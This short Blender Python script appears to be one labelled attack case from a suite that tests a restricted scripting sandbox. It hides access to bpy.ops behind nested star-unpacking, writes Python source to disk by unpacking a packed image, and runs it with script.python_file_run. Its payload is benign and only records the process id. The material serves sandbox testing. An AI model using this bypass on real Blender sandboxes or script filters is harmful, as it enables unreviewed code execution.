# attack: bytes of the script's own are unpacked as a .py file and run by script.python_file_run; operators through nested unpacking with a star
# family: operators
import bpy

(_, *[tools]), _ = (0, bpy.ops), 0
path = bpy.context.scene.render.path_resolve("filepath") + "b-operators-06.py"
code = b"import bpy, os; bpy.context.scene['found'] = str(os.getpid())"
image = bpy.data.images.new("code", 1, 1)
image.source = "FILE"
image.__setattr__("filepath", path)
image.pack(data=code, data_len=len(code))
tools.file.unpack_item(method="WRITE_ORIGINAL", id_name=image.name, id_type=19785)
tools.script.python_file_run(filepath=path)
print("REACHED", tools.script.python_file_run.idname(), "ran in process", bpy.context.scene["found"])
